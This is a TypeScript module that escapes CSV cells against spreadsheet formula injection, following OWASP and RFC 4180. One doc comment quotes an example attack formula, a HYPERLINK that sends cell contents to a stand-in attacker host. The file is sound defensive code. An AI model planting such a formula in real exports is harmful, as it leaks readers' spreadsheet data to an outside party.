/**
 * The first characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection"): `=`, `+`, `-`, `@`,
 * tab and carriage return. A name such as `=HYPERLINK("http://evil.example/?x="&A1,"open")` would otherwise run in
 * the reader's spreadsheet when the Index CSV is opened.
 */
const FORMULA_LEADING = /^[=+\-@\t\r]/;

/** Whether a text, written as a CSV cell as is, would be read by a spreadsheet as a formula. */
export const startsAsFormula = (text: string): boolean => FORMULA_LEADING.test(text);

/**
 * One CSV cell (RFC 4180: quoted when it holds a comma, a quote or a line break, quotes doubled). A cell that starts
 * as a formula is written in OWASP's form: a single quote before the text, the whole cell quoted, so spreadsheets show
 * the text and never evaluate it (the quote is visible to a plain-text reader, which is the lesser harm). The Index
 * writes only counts as numbers, never negative, so no number is changed by this rule (docs/index-export.md "CSV").
 */
export function csvCell(value: string | number): string {
  const text = String(value);
  if (startsAsFormula(text)) return `"'${text.replace(/"/g, '""')}"`;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}
